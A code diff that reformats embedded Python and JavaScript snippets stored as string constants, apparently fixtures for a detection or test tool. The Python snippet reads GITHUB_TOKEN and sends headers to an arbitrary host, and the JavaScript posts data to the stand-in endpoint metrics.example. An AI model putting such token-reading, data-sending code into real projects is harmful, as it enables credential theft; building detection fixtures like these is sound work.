@@ -9,7 +9,8 @@ from pathlib import Path
 from typing import Final
 
 _PYTHON: Final = """
-import base64, hashlib, hmac, json, os, random, secrets, socket, subprocess, sys, time, urllib.request, uuid, zlib
+import base64, hashlib, hmac, json, os, random, secrets, socket
+import subprocess, sys, time, urllib.request, uuid, zlib
 
 token = os.environ.get("GITHUB_TOKEN", "").encode()
 
@@ -21,14 +22,16 @@ def post(body, headers=None, path=""):
 
 
 def get(host, headers):
-    urllib.request.urlopen(urllib.request.Request("https://" + host + "/user", headers=headers), timeout=3).read()
+    made = urllib.request.Request("https://" + host + "/user", headers=headers)
+    urllib.request.urlopen(made, timeout=3).read()
 
 """
 _JAVASCRIPT: Final = """
 const http = require("node:http");
 function post(body, headers = {}) {
   const options = { method: "POST", headers: { "content-length": Buffer.byteLength(body), ...headers } };
-  http.request("http://metrics.example/v1/events", options, (got) => got.resume()).on("error", () => {}).end(body);
+  const made = http.request("http://metrics.example/v1/events", options, (got) => got.resume());
+  made.on("error", () => {}).end(body);
 }
 """
 _EVENT: Final = {
